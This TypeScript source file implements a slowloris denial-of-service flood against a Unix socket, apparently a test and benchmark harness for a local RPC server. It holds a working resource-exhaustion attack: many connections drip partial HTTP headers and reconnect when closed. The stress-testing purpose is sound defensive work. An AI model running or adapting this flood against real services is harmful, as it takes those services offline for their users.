/**
 * A slowloris against a unix socket, for tests and the benchmark: `connections` sockets
 * each send the start of an HTTP request one byte per `dripMs`, never finishing it; a
 * socket the server closes is opened again after `reconnectMs` (so the flood stays at
 * full strength). Run as its own process (`node --import tsx lab/standins/slowloris.ts
 * <socket> <connections> <seconds>`, under another user with runuser) or in-process.
 * It prints one JSON line when done: connections opened and closed by the server.
 */
import net from "node:net";
import { fileURLToPath } from "node:url";

export interface SlowlorisOptions {
  socket: string;
  connections: number;
  dripMs?: number;
  reconnectMs?: number;
}

export interface SlowlorisStats {
  opened: number;
  closedByServer: number;
  /** connections open at the moment stats were taken */
  open: number;
}

const REQUEST = "POST /RPC2 HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\nX-Slow: ";

export function startSlowloris(opts: SlowlorisOptions): {
  stats(): SlowlorisStats;
  stop(): void;
} {
  const dripMs = opts.dripMs ?? 1000;
  const reconnectMs = opts.reconnectMs ?? 100;
  const stats: SlowlorisStats = { opened: 0, closedByServer: 0, open: 0 };
  const sockets = new Set<net.Socket>();
  let stopped = false;

  const one = () => {
    if (stopped) return;
    const s = net.createConnection({ path: opts.socket });
    let sent = 0;
    let timer: NodeJS.Timeout | undefined;
    sockets.add(s);
    s.on("connect", () => {
      stats.opened += 1;
      stats.open += 1;
      timer = setInterval(() => {
        s.write(REQUEST[sent % REQUEST.length] ?? "x");
        sent += 1;
      }, dripMs);
    });
    s.on("error", () => undefined);
    s.on("close", (hadError) => {
      if (timer) {
        clearInterval(timer);
        stats.open -= 1;
      }
      sockets.delete(s);
      if (stopped) return;
      if (timer || !hadError) stats.closedByServer += 1;
      setTimeout(one, reconnectMs);
    });
  };
  for (let i = 0; i < opts.connections; i++) one();
  return {
    stats: () => ({ ...stats }),
    stop: () => {
      stopped = true;
      for (const s of sockets) s.destroy();
    },
  };
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const [socket, n, seconds] = process.argv.slice(2);
  const flood = startSlowloris({ socket: socket!, connections: Number(n) });
  setTimeout(() => {
    const st = flood.stats();
    flood.stop();
    process.stdout.write(`${JSON.stringify(st)}\n`);
    process.exit(0);
  }, Number(seconds) * 1000);
}
